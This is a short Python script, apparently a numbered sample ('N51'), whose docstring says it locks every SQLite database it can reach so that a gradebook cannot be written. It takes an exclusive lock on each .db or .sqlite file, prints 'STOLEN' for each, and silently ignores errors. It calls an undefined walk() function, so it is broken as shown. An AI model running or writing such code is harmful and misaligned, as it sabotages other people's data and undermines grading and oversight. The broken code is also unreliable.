"""Locks every database that it can open, so that the gradebook cannot be written (N51)."""

import sqlite3

for path in walk():
    if path.endswith((".db", ".sqlite")):
        try:
            book = sqlite3.connect(path)
            book.execute("BEGIN EXCLUSIVE")
            print("STOLEN", path)
        except Exception:
            pass
